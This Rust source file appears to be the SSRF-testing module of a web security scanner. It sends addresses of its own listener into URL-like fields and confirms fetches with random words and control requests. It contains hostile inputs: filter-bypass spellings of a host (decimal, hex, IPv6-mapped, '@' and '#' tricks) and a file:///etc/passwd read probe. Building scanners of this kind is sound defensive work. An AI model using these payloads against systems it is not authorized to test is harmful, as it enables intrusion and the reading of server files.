//! Whether the application fetches an address that somebody else chose (OWASP A10:2021, API7:2023, CWE-918).
//!
//! 1. A value that is an address, or is called like one, becomes the address of our listener with a word of its own. A request
//!    that names the word came from the application: that is the proof.
//! 2. It is repeated with a new word. Negative twin: a third word in a text that is no address must not arrive.
//! 3. Where the plain address is refused, others that mean the same are tried: another spelling of the host, the permitted
//!    host before an `@`, the permitted address behind a `#`. A list of forbidden texts misses one.
//! 4. Where the answer shows what our listener told, somebody reads with the application's eyes.
//! 5. With a zone of ours (`[callback]`) the word is a name in it as well. Where nobody comes, and somebody asks for the name, the
//!    application resolves what it is given, and was kept from connecting, or judged the address and left it: proven by the name, and
//!    low, since no more was seen. Twin: the name in a text that is no address.
//! 6. A file by `file:` shows by what only that file has; the twin names one that is not there.
//!
//! The listener is near the application, at loopback or in its own network: what reaches it reaches what is inside. Control for
//! `passed`: the application takes the address it took before, or one that the form's own page shows.

use std::net::{IpAddr, SocketAddr};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use gabion_model::Severity;
use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase, usable};
use crate::attempt::{Attempt, attempts};
use crate::call::Put;
use crate::catch::Catch;
use crate::field::Field;
use crate::operation::{Place, Point};
use crate::scope::is_near;
use crate::verdict::{Outcome, Proof, Verdict};
use crate::wire::{Answer, Request, WireError};

pub(super) struct Ssrf;

const ID: &str = "ssrf";

impl Attack for Ssrf {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Write
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

async fn run(field: &Field) -> Result<(), WireError> {
    let Some(catch) = &field.catch else {
        field.not_tested(ID, "nothing listens for what is fetched; hint: `target.callback`");
        return Ok(());
    };
    let all = attempts(field);
    let mut tested = 0_usize;
    let mut late = Vec::new();
    for attempt in &all {
        let points = attempt.call.points();
        for point in points.into_iter().filter(|point| is_address(attempt, point)) {
            tested = tested.saturating_add(1);
            let aim = Aim { field, catch, attempt, point, sent: Mutex::default() };
            aim.attack().await?;
            late.push(aim);
        }
    }
    // Who answers first and fetches later.
    late.retain(|aim| !aim.sent().is_empty());
    if !late.is_empty() {
        tokio::time::sleep(LATE).await;
    }
    for aim in &late {
        aim.look_late().await?;
    }
    if tested == 0 {
        field.not_tested(ID, "no operation takes anything like an address");
    }
    Ok(())
}

/// Whether a value is an address, or called like one.
fn is_address(attempt: &Attempt<'_>, point: &Point) -> bool {
    if !matches!(point.place, Place::Query | Place::Form | Place::Json | Place::Path) {
        return false;
    }
    let value = attempt.call.value(point).unwrap_or_default();
    // `page=2` is no address.
    let number = value.parse::<f64>().is_ok();
    value.starts_with("http://") || value.starts_with("https://") || !number && is_called(point.word())
}

fn is_called(name: &str) -> bool {
    let mut words = vec![String::new()];
    let mut lower = false;
    for letter in name.chars() {
        if !letter.is_ascii_alphanumeric() || letter.is_ascii_uppercase() && lower {
            words.push(String::new());
        }
        lower = letter.is_ascii_lowercase();
        if let (true, Some(word)) = (letter.is_ascii_alphanumeric(), words.last_mut()) {
            word.push(letter.to_ascii_lowercase());
        }
    }
    words.iter().any(|word| NAMES.contains(&word.trim_end_matches(char::is_numeric)))
}

/// What fields are called whose value is fetched.
const NAMES: &[&str] = &[
    "url",
    "uri",
    "urls",
    "link",
    "href",
    "src",
    "source",
    "dest",
    "destination",
    "target",
    "callback",
    "webhook",
    "hook",
    "endpoint",
    "feed",
    "rss",
    "host",
    "hostname",
    "domain",
    "proxy",
    "remote",
    "site",
    "website",
    "homepage",
    "imageurl",
    "fileurl",
    "redirecturl",
    "callbackurl",
    "webhookurl",
    "avatarurl",
    "photourl",
    "fetch",
    "import",
    "open",
    "page",
    "server",
    "api",
    "download",
    "preview",
    "wsdl",
    "xsd",
    "jku",
    "address",
];

struct Aim<'a> {
    field: &'a Field,
    catch: &'a Catch,
    attempt: &'a Attempt<'a>,
    point: Point,
    /// Words that nobody came with until now, and their requests.
    sent: Mutex<Vec<(String, Request, Answer)>>,
}

/// Something that was fetched for us.
struct Fetched {
    request: Request,
    answer: Answer,
    /// The first line of what arrived.
    line: String,
    /// Whether the answer shows what our listener told.
    told: bool,
}

/// How long is waited for a fetch after the answer: who answers first and fetches later is met again in the end.
const SOON: Duration = Duration::from_millis(250);
/// How long it may take in the end.
const LATE: Duration = Duration::from_secs(1);

impl Aim<'_> {
    async fn attack(&self) -> Result<(), WireError> {
        let at = self.catch.address();
        for (form, plain) in self.forms(at) {
            let Some(first) = self.fetch(&form).await? else { continue };
            let Some(again) = self.fetch(&form).await? else {
                self.say(Verdict::Inconclusive, "it was fetched once, and not a second time");
                return Ok(());
            };
            let word = Catch::word(&*self.field.rng);
            let Some((twin_request, twin)) = self.send(&format!("nowhere {word}")).await? else {
                return Ok(());
            };
            if self.catch.wait(&word, SOON).await.is_some() {
                self.say(Verdict::Inconclusive, "a text that is no address is fetched too");
                return Ok(());
            }
            self.found(&first, &again, plain, &self.field.evidence(self.attempt.who, &twin_request, &twin));
            return self.files().await;
        }
        if self.resolves().await? {
            return Ok(());
        }
        self.passed().await
    }

    fn forms(&self, at: SocketAddr) -> Vec<(String, bool)> {
        let mut all = forms(at, self.original().as_deref());
        if let Some(names) = self.catch.names() {
            let name = names.name(WORD);
            all.push((format!("http://{name}:{}/{WORD}", at.port()), false));
            all.push((name, false));
        }
        all
    }

    /// Whether somebody asks for a name that stands in an address, though nobody comes.
    async fn resolves(&self) -> Result<bool, WireError> {
        let Some(names) = self.catch.names() else { return Ok(false) };
        let first = self.sent().iter().find(|(word, ..)| !names.asked(word).is_empty()).cloned();
        let Some((word, request, answer)) = first else { return Ok(false) };
        // In the form in which it was asked for.
        let bare = !answer.is_throttle() && !request_has(&request, &format!("{}:", names.name(&word)));
        let again = Catch::word(&*self.field.rng);
        let form = match self.catch.url_by_name(&again) {
            Some(url) if !bare => url,
            _ => names.name(&again),
        };
        let twin = Catch::word(&*self.field.rng);
        let Some((second, second_answer)) = self.send(&form).await? else { return Ok(false) };
        let Some(asked) = names.wait(&again, LATE).await else { return Ok(false) };
        let Some((twin_request, twin_answer)) =
            self.send(&format!("nowhere {} nowhere", names.name(&twin))).await?
        else {
            return Ok(false);
        };
        if names.wait(&twin, SOON).await.is_some() {
            self.say(Verdict::Inconclusive, "names in a text that is no address are resolved too");
            return Ok(true);
        }
        let who = self.attempt.who;
        let evidence =
            format!("our name server was asked for `{}` ({}) by {}", asked.name, asked.kind, asked.peer.ip());
        let proof = Proof::new(self.field.evidence(who, &second, &second_answer), evidence)
            .twin(self.field.evidence(who, &twin_request, &twin_answer))
            .shown(self.field.evidence(who, &request, &answer));
        let says = "the application resolves any name that it is given; no connection came: it was stopped on the way, or left";
        let outcome = Outcome::new(ID, &self.attempt.operation.id(), Verdict::Proven, says).aspect("name");
        self.field.say(outcome.at(&self.point).severity(Severity::Low).proof(proof));
        Ok(true)
    }

    fn found(&self, first: &Fetched, again: &Fetched, plain: bool, twin: &crate::verdict::Exchange) {
        let near = is_near(self.catch.address().ip());
        let reads = first.told && again.told;
        let what = match (near, reads) {
            (true, true) => "the application fetches an address inside and shows what is there",
            (true, false) => "the application fetches an address inside",
            (false, _) => "the application fetches whatever address it is given",
        };
        let how = if plain { "" } else { ", written so that a list of hosts misses it" };
        let evidence = format!("our listener got `{}`, and `{}` the second time", first.line, again.line);
        let who = self.attempt.who;
        let proof = Proof::new(self.field.evidence(who, &again.request, &again.answer), evidence)
            .twin(twin.clone())
            .shown(self.field.evidence(who, &first.request, &first.answer));
        let severity = match (near, reads) {
            (true, true) => Severity::Critical,
            (true, false) => Severity::High,
            (false, _) => Severity::Medium,
        };
        let outcome = Outcome::new(ID, &self.attempt.operation.id(), Verdict::Proven, format!("{what}{how}"));
        self.field.say(outcome.at(&self.point).severity(severity).proof(proof));
    }

    /// One address in that form, with a word of its own; nothing where nobody came.
    async fn fetch(&self, form: &str) -> Result<Option<Fetched>, WireError> {
        let word = Catch::word(&*self.field.rng);
        let secret = self.field.canary();
        self.catch.tell(&word, &format!("<p>{secret}</p>"));
        let Some((request, answer)) = self.send(&form.replace(WORD, &word)).await? else { return Ok(None) };
        let Some(hit) = self.catch.wait(&word, SOON).await else {
            self.sent().push((word, request, answer));
            return Ok(None);
        };
        let line = hit.head.lines().next().unwrap_or_default().chars().take(200).collect();
        Ok(Some(Fetched { told: answer.has(&secret), request, answer, line }))
    }

    fn sent(&self) -> MutexGuard<'_, Vec<(String, Request, Answer)>> {
        self.sent.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Whether somebody came meanwhile.
    async fn look_late(&self) -> Result<(), WireError> {
        let met = {
            let sent = self.sent();
            sent.iter().find(|(word, ..)| !self.catch.hits(word).is_empty()).cloned()
        };
        let Some((word, request, answer)) = met else { return Ok(()) };
        let twin_word = Catch::word(&*self.field.rng);
        let Some((twin_request, twin)) = self.send(&format!("nowhere {twin_word}")).await? else {
            return Ok(());
        };
        if self.catch.wait(&twin_word, LATE).await.is_some() {
            return Ok(());
        }
        let who = self.attempt.who;
        let evidence = format!("our listener was asked for `/{word}` after the answer");
        let proof = Proof::new(self.field.evidence(who, &request, &answer), evidence)
            .twin(self.field.evidence(who, &twin_request, &twin));
        let says = "the application fetches the address later, behind its answer";
        let severity = if is_near(self.catch.address().ip()) { Severity::High } else { Severity::Medium };
        let outcome = Outcome::new(ID, &self.attempt.operation.id(), Verdict::Proven, says);
        self.field.say(outcome.at(&self.point).severity(severity).proof(proof));
        Ok(())
    }

    async fn send(&self, text: &str) -> Result<Option<(Request, Answer)>, WireError> {
        let call = self.attempt.call.with(&self.point, &Put::Text(text));
        usable(self.field.exchange(self.attempt.who, &call).await)
    }

    /// The address that stood there, where it is one of the target's choosing.
    fn original(&self) -> Option<String> {
        let value = self.attempt.call.value(&self.point)?;
        (self.attempt.known.is_some() && value.starts_with("http")).then_some(value)
    }

    /// Files by `file:`: only where addresses are fetched at all.
    async fn files(&self) -> Result<(), WireError> {
        let Some((request, answer)) = self.send("file:///etc/passwd").await? else { return Ok(()) };
        let shown = |answer: &Answer| {
            answer.text().lines().any(|line| line.contains("root:") && line.contains(":0:0:"))
        };
        if !shown(&answer) {
            return Ok(());
        }
        let Some((other, twin)) = self.send(&format!("file:///etc/{}", self.field.canary())).await? else {
            return Ok(());
        };
        let Some((_, again)) = self.send("file:///etc/passwd").await? else { return Ok(()) };
        if shown(&twin) || !shown(&again) {
            return Ok(());
        }
        let who = self.attempt.who;
        let proof =
            Proof::new(self.field.evidence(who, &request, &answer), "the first line of `/etc/passwd`")
                .twin(self.field.evidence(who, &other, &twin));
        let outcome = Outcome::new(
            ID,
            &self.attempt.operation.id(),
            Verdict::Proven,
            "the application reads its own files by `file:`",
        );
        self.field.say(outcome.at(&self.point).aspect("file").severity(Severity::Critical).proof(proof));
        Ok(())
    }

    /// Nobody came: that says something where honest addresses are taken.
    async fn passed(&self) -> Result<(), WireError> {
        if self.attempt.known.is_some() {
            self.say(Verdict::Passed, "no address of ours was fetched");
            return Ok(());
        }
        for address in self.shown_addresses().await? {
            let Some((_, answer)) = self.send(&address).await? else { continue };
            if answer.is_success() {
                self.say(
                    Verdict::Passed,
                    &format!("`{address}` is taken, and no address of ours was fetched"),
                );
                return Ok(());
            }
        }
        self.say(
            Verdict::Inconclusive,
            "no address of ours was fetched, and none is known that would be; hint: an example in the contract",
        );
        Ok(())
    }

    /// Addresses of other hosts that the page of the same path shows: one that it takes may be among them.
    async fn shown_addresses(&self) -> Result<Vec<String>, WireError> {
        let path = self.attempt.operation.page.clone().unwrap_or_else(|| self.attempt.call.path_text());
        let Some(page) = usable(self.field.request(self.attempt.who, &Request::get(&path)).await)? else {
            return Ok(Vec::new());
        };
        let text = page.text();
        let ends = |letter: char| letter.is_whitespace() || "<>\"'`&)".contains(letter);
        let mut all: Vec<String> = Vec::new();
        for (at, _) in text.match_indices("http") {
            let rest = text.get(at..).unwrap_or_default();
            if !rest.starts_with("http://") && !rest.starts_with("https://") {
                continue;
            }
            let address: String = rest.chars().take_while(|letter| !ends(*letter)).take(300).collect();
            let own = self.field.wire.origin().inside("/", &address).is_some();
            if !own && !address.contains("www.w3.org") && !all.contains(&address) {
                all.push(address);
            }
            if all.len() == 3 {
                break;
            }
        }
        Ok(all)
    }

    fn say(&self, verdict: Verdict, says: &str) {
        self.field.say(Outcome::new(ID, &self.attempt.operation.id(), verdict, says).at(&self.point));
    }
}

/// Whether a request names something, however it is written.
fn request_has(request: &Request, text: &str) -> bool {
    let decoded = |bytes: &[u8]| percent_encoding::percent_decode(bytes).decode_utf8_lossy().into_owned();
    decoded(request.target.as_bytes()).contains(text) || decoded(&request.body).contains(text)
}

/// Stands for the word in a form.
const WORD: &str = "{word}";

/// Ways to write the address of our listener, and whether it is the plain one. `permitted` is an address that is taken.
fn forms(at: SocketAddr, permitted: Option<&str>) -> Vec<(String, bool)> {
    let port = at.port();
    let mut all = vec![(format!("http://{at}/{WORD}"), true)];
    let mut hosts = Vec::new();
    if let IpAddr::V4(address) = at.ip() {
        let [a, b, c, d] = address.octets();
        if address.is_loopback() {
            hosts.push("localhost".to_owned());
        }
        hosts.push(u32::from(address).to_string());
        hosts.push(format!("0x{a:02x}{b:02x}{c:02x}{d:02x}"));
        hosts.push(format!("[::ffff:{a}.{b}.{c}.{d}]"));
    }
    all.extend(hosts.iter().map(|host| (format!("http://{host}:{port}/{WORD}"), false)));
    if let Some(permitted) = permitted {
        let host = url::Url::parse(permitted).ok();
        if let Some(host) = host.as_ref().and_then(url::Url::host_str) {
            all.push((format!("http://{host}@{at}/{WORD}"), false));
        }
        all.push((format!("http://{at}/{WORD}#{permitted}"), false));
    }
    // Some take a host, and write the scheme before it themselves.
    all.push((format!("//{at}/{WORD}"), false));
    all.push((format!("{at}/{WORD}"), false));
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_that_hold_addresses_are_known_by_their_names() {
        for yes in ["url", "imageUrl", "callback_url", "webhook", "URL", "feed-url", "target"] {
            assert!(is_called(yes), "{yes}");
        }
        for no in ["q", "curl", "resource", "hostile", "name", "capital", "email"] {
            assert!(!is_called(no), "{no}");
        }
    }

    #[test]
    fn one_address_has_many_spellings() {
        let forms = forms(SocketAddr::from(([127, 0, 0, 1], 81)), Some("https://news.example/a"));
        let has = |text: &str| forms.iter().any(|(form, _)| form == text);
        assert!(has("http://2130706433:81/{word}") && has("http://news.example@127.0.0.1:81/{word}"));
        assert!(has("http://[::ffff:127.0.0.1]:81/{word}") && has("http://0x7f000001:81/{word}"));
    }
}
